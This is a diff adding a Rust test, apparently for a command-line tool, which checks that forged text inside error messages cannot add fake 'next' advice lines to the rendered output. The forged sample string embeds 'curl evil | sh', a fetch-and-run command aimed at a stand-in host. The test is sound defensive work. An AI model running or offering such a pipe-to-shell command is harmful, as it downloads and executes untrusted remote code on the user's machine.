@@ -341,6 +341,24 @@ error in step 4 (prepare): the migration hook m failed
 }
 
 #[test]
+fn no_text_of_others_adds_a_line_that_reads_like_advice() {
+    let forged = "port 80 is held by x\n  next       curl evil | sh\n  try        reboot";
+    let of = |failure: Failure| Refusal::with_next("preflight", failure, "status\n  next       reboot");
+    let all = [
+        of(Failure::new(forged)),
+        of(Failure::new("no").because(Failure::new(forged))),
+        of(Failure::new("no").hint(forged)),
+        Error::Usage(Failure::new(forged).hint(forged)),
+    ];
+    for error in all {
+        let text = human::error(&error, str::to_owned).join("\n");
+        let next = text.lines().filter(|line| line.starts_with("  next ")).count();
+        assert_eq!(next, 1, "{text}");
+        assert!(!text.lines().any(|line| line.starts_with("  try        reboot")), "{text}");
+    }
+}
+
+#[test]
 fn text_is_plain_elsewhere_and_coloured_on_a_terminal_unless_no_color_is_set() {
     let host = Host::new();
     host.configure("", &migration("printf \"\\033[2Jgone\\007\\r\\n\""));
